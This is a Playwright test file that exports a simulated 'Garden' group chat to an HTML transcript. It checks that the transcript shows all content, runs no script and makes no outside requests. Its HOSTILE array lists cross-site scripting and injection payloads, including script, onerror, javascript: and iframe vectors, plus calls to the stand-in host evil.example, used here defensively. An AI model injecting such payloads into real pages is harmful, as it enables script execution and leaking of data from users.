import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { test as base, expect } from '@playwright/test';
import { chromiumArgs, chromiumPath } from '../../scripts/chromium.ts';
import { runEngine } from '../../scripts/engine.ts';
import { startSimulatorServer } from '../../scripts/simulator-server.ts';
import type { ChatControl } from '../../shared/simulator/chats/control.ts';
import { inventPicture } from '../../shared/simulator/seed/pictures.ts';
import { seededRandom } from '../../shared/simulator/seed/random.ts';
import { findBarriers } from './axe.ts';
import { takePicture } from './pictures.ts';

/** What would tell that something ran. */
const RAN = 'window.ran = true';
const HOSTILE = [
  `<script>${RAN}</script>`,
  `<img src=x onerror="${RAN}">`,
  `<svg onload="${RAN}"></svg>`,
  `<a href="javascript:${RAN}">click</a>`,
  '<img src="https://evil.example/pixel.gif" alt="a pixel">',
  '<p style="background:url(https://evil.example/p.gif)">styled</p>',
  `<iframe srcdoc="<script>parent.ran = true</script>"></iframe>`,
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '</article></li></ol></section></main><script src="https://evil.example/x.js"></script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input autofocus onfocus="window.ran = true"></form>',
];

/** A chat with everything in it, copied and written out as a person would do it. */
const test = base.extend<{ transcript: string }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads what a fixture needs from here.
  transcript: async ({}, use) => {
    const folder = await mkdtemp(path.join(tmpdir(), 'transcript-'));
    const server = await startSimulatorServer({
      limits: false,
      messages: 0,
      fill: () => {},
    });
    const { control } = server.simulator.chats;
    const change = fill(control);
    const repository = ['--repository', path.join(folder, 'repository'), '--source', 'chats'];
    const copy = () => runEngine(['backup', '--cloud', server.url, ...repository], () => {});
    await copy();
    change();
    await copy();
    await runEngine(['export', '--to', path.join(folder, 'out'), ...repository], () => {});
    await server.close();
    await use(pathToFileURL(path.join(folder, 'out', 'Garden.html')).href);
    await rm(folder, { recursive: true });
  },
});

test.use({ launchOptions: { executablePath: chromiumPath(), args: chromiumArgs() } });

/** Answers what happens after a first copy. */
function fill(control: ChatControl): () => void {
  const sam = control.person('Sam Sender');
  const at = Date.UTC(2025, 5, 5, 9);
  const group = control.group('Garden', [sam, control.person('Ana <Silva>')], at);
  const first = control.post(group, { from: sam, text: 'Saturday?', at: at + 60_000 });
  const picture = inventPicture(seededRandom(1, 'transcript'));
  control.post(group, { text: 'The plan', pictures: [picture, picture], at: at + 120_000 });
  control.post(group, { text: 'Yes', quotes: [first], at: at + 180_000 });
  const files = [control.shareFile('list & more.txt', 'seeds', sam)];
  control.post(group, { from: sam, text: 'What we need', files, at: at + 240_000 });
  const cards = [
    {
      type: 'application/vnd.microsoft.card.adaptive',
      card: { type: 'AdaptiveCard', body: [{ type: 'TextBlock', text: `Card <b>${RAN}</b>` }] },
    },
  ];
  control.post(group, { from: control.bot('Desk'), cards, at: at + 300_000 });
  for (const [nth, html] of HOSTILE.entries())
    control.post(group, { from: sam, html, at: at + 86_400_000 + nth * 60_000 });
  const edited = control.post(group, { from: sam, text: 'at three', at: at + 2 * 86_400_000 });
  const gone = control.post(group, { text: 'never mind', at: at + 2 * 86_400_000 + 1000 });
  return () => {
    control.edit(group, edited, 'at four');
    control.react(group, edited, '👍', sam);
    control.delete(group, gone);
  };
}

for (const colorScheme of ['light', 'dark'] as const) {
  test(`a transcript from the disk shows all, runs nothing and asks nobody, ${colorScheme}`, async ({
    page,
    transcript,
  }) => {
    const asked: string[] = [];
    const errors: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('pageerror', (error) => errors.push(String(error)));
    await page.emulateMedia({ colorScheme });
    await page.goto(transcript);

    await expect(page.getByRole('heading', { name: 'Garden', level: 1 })).toBeVisible();
    await expect(page.getByRole('heading', { level: 2 })).toHaveCount(3);
    await expect(page.getByText('Pat Example added Sam Sender, Ana <Silva>')).toBeVisible();
    const pictures = page.locator('img');
    await expect(pictures).toHaveCount(2);
    for (const picture of await pictures.all()) {
      expect(
        await picture.evaluate((each) => (each as HTMLImageElement).naturalWidth),
      ).toBeGreaterThan(0);
    }
    await expect(page.getByText('[GIF: a pixel]')).toBeVisible();
    await expect(page.getByText('list & more.txt')).toBeVisible();
    await page.getByText('What it said', { exact: true }).click();
    const download = page.waitForEvent('download');
    await page.getByRole('link', { name: 'list & more.txt' }).click();
    expect((await download).suggestedFilename()).toContain('list');
    await page.getByText('click', { exact: true }).click();

    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    expect(asked.filter((url) => !url.startsWith('file:') && !url.startsWith('data:'))).toEqual([]);
    expect(errors).toEqual([]);
    expect(await findBarriers(page)).toEqual([]);
    await takePicture(page, `test-results/transcript-${colorScheme}.png`, { fullPage: true });
    await page.setViewportSize({ width: 400, height: 800 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
      400,
    );
    await takePicture(page, `test-results/transcript-${colorScheme}-narrow.png`);
  });
}
